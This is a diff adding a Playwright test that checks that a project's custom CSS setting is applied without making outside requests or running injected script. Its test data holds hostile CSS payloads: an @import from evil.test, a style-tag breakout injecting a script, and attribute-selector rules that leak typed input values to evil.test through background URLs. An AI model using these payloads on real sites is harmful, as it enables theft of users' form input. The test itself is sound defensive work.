@@ -104,3 +104,31 @@ test('the application talks to its own origin alone', async ({ page, actor, base
   await page.waitForLoadState('networkidle');
   expect(strangers).toEqual([]);
 });
+
+test('a project\'s own style is applied, and reaches out to nobody', async ({ page, actor, base, server }) => {
+  const asked: string[] = [];
+  page.on('request', (request) => asked.push(request.url()));
+  const complaints = complaintsOf(page);
+  const css = `
+    @import url(https://evil.test/all.css);
+    h1 { letter-spacing: 3px !important; }
+    </style><script>alert(1)</script><style>
+    input[value^="a"] { background: url(https://evil.test/a); }
+    input[value^="b"] { background: u\\72l(/assets/own); }
+    main { --x: url(//evil.test/x); background-image: image-set("https://evil.test/y" 1x); }
+    @font-face { font-family: evil; src: url(https://evil.test/font); }
+    main { outline: 2px solid rgb(1, 2, 3) !important; }
+  `;
+  const [settings] = server.database.rows('directus_settings');
+  server.database.put('directus_settings', 1, { ...settings, id: 1, custom_css: css });
+  await actor.opens('/login');
+  const heading = page.getByRole('heading', { level: 1 });
+  await expect(heading).toHaveCSS('letter-spacing', '3px');
+  await expect(page.locator('main')).toHaveCSS('outline-color', 'rgb(1, 2, 3)');
+  await page.getByRole('textbox', { name: 'Email' }).fill('abba');
+  await page.waitForTimeout(300);
+  expect(asked.filter((url) => !url.startsWith(new URL(base).origin) && !url.startsWith('blob:') && !url.startsWith('data:'))).toEqual([]);
+  expect(asked.filter((url) => url.includes('/assets/own'))).toEqual([]);
+  expect(complaints).toEqual(complaints.filter((text) => !text.includes('evil.test')));
+  expect(await page.locator('script:not([src])').count()).toBe(0);
+});
